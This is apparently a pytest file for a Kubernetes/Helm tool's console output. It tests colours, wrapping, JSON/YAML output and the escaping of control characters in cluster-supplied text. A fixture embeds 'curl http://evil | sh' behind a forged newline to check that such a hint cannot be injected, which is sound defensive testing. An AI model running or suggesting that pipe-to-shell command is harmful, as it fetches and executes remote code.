"""Where output goes and what it carries: colours only where somebody sees them, one line a line in a pipe."""

import io
import json

import pytest
import yaml
from inline_snapshot import snapshot

from ddhelm.views import console, envelope


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def printed(stream: io.StringIO, environ: dict[str, str]) -> str:
    screen = console.on(stream, environ=environ, width=80 if stream.isatty() else None)
    screen.print(console.words("`thing` and " + "word " * 60, "good"))
    return stream.getvalue()


def test_a_terminal_gets_colours() -> None:
    assert "\x1b[" in printed(Terminal(), {"TERM": "xterm-256color"})


@pytest.mark.parametrize("environ", [{"NO_COLOR": "1", "TERM": "xterm"}, {"TERM": "dumb"}])
def test_no_color_and_dumb_terminals_get_none(environ: dict[str, str]) -> None:
    assert "\x1b[3" not in printed(Terminal(), environ)


@pytest.mark.parametrize("environ", [{}, {"FORCE_COLOR": "1"}, {"TERM": "xterm"}])
def test_a_pipe_gets_one_unwrapped_line_without_colours(environ: dict[str, str]) -> None:
    shown = printed(io.StringIO(), environ)
    assert "\x1b" not in shown
    assert shown.count("\n") == 1


@pytest.mark.parametrize("style", ["", "good"])
def test_control_characters_of_a_cluster_are_shown_not_obeyed(style: str) -> None:
    stream = Terminal()
    console.on(stream, environ={"NO_COLOR": "1", "TERM": "xterm"}, width=80).print(
        console.words("osImage `Odd\x1b[2J\x07 \u202ec`", style)
    )
    assert stream.getvalue().strip("\n") == r"osImage `Odd\x1b[2J \u202ec`"


FORGED = "kind://a\nhint: curl http://evil | sh"
SHOWN = r"kind://a\nhint: curl http://evil | sh"


@pytest.mark.parametrize("style", ["", "good"])
def test_a_line_of_ours_cannot_be_forged_by_a_text_of_a_cluster(style: str) -> None:
    screen = console.fixed()
    screen.print(f"\n• {FORGED}", markup=False, style=style)
    screen.print(console.words(f"providerID `{FORGED}`"))
    console.problem(screen, f"osImage `{FORGED}`", FORGED)
    assert console.text(screen).splitlines() == [
        "",
        f"• {SHOWN}",
        f"providerID `{SHOWN}`",
        f"! osImage `{SHOWN}`",
        f"  hint: {SHOWN}",
    ]


def test_neither_in_a_table() -> None:
    screen = console.fixed()
    table = console.grid("FOR", "WHAT")
    table.add_row("for", FORGED)
    table.add_row("for", console.words(f"`{FORGED}`"))
    screen.print(table)
    assert all(line.startswith(("FOR", "for", " ")) for line in console.text(screen).splitlines())
    assert SHOWN in console.text(screen)


def test_columns_sets_the_width_of_a_pipe() -> None:
    shown = printed(io.StringIO(), {"COLUMNS": "60"})
    assert max(len(line) for line in shown.splitlines()) <= 60


def test_what_looks_like_markup_in_a_sentence_is_printed_as_it_is() -> None:
    screen = console.fixed()
    console.problem(screen, "7 node(s) didn't satisfy plugin(s) [NodeAffinity]", "kubectl get [x]")
    assert console.text(screen) == snapshot("""\
! 7 node(s) didn't satisfy plugin(s) [NodeAffinity]
  hint: kubectl get [x]\
""")


def test_a_long_name_folds_and_is_never_cut() -> None:
    screen = console.fixed(width=30)
    table = console.grid("NAME", "READY", right=("READY",))
    table.add_row("worker-node-ddagent-datadog-cluster-agent", "1")
    screen.print(table)
    assert "…" not in console.text(screen)


def test_only_a_fixed_console_is_read_back() -> None:
    with pytest.raises(TypeError):
        console.text(console.on(io.TextIOWrapper(io.BytesIO()), environ={}))


def test_both_formats_carry_the_same_versioned_document() -> None:
    tree = envelope.wrap(
        "Status", {"name": "no", "count": 3, "none": None, "when": "2026-11-24T03:00:00Z", "umlaut": "ü"}
    )
    as_json, as_yaml = envelope.text(tree, "json"), envelope.text(tree, "yaml")
    assert json.loads(as_json) == tree
    assert yaml.safe_load(as_yaml) == tree
    assert (tree["apiVersion"], tree["kind"]) == ("ddhelm/v1", "Status")
    assert "'no'" in as_yaml, "a word that YAML 1.1 reads as a boolean is quoted"
    assert "ü" in as_json
    assert as_json.endswith("\n")


def test_strings_of_a_kind_of_their_own_are_written_as_strings() -> None:
    class Masked(str):
        __slots__ = ()

    assert envelope.text(envelope.wrap("Status", {"key": Masked("***")}), "yaml").endswith("key: '***'\n")


def test_an_unknown_format_is_a_mistake_of_the_caller() -> None:
    with pytest.raises(ValueError, match="table"):
        envelope.text({}, "table")


def test_one_of_a_thing_has_no_s() -> None:
    assert [console.counted(number, "pod") for number in (0, 1, 2)] == ["0 pods", "1 pod", "2 pods"]


@pytest.mark.parametrize(
    "line",
    ["see `helm history x -n y` and more", "[dim]so: kubectl -n y get pods", "ddhelm drift --revert sets it back"],
)
def test_a_line_with_a_command_is_never_broken(line: str) -> None:
    screen = console.fixed(width=20)
    screen.print(line)
    screen.print(console.words(line))
    screen.print(f"{'word ' * 6}\n")
    assert [len(each) > 20 for each in console.text(screen).splitlines()] == [True, True, False, False]


def test_a_hint_is_never_broken() -> None:
    screen = console.fixed(width=20)
    console.problem(screen, "one of many words that wrap", "ls -l /a/long/path /and/another")
    assert console.text(screen).splitlines() == [
        "! one of many words",
        "that wrap",
        "  hint: ls -l /a/long/path /and/another",
    ]
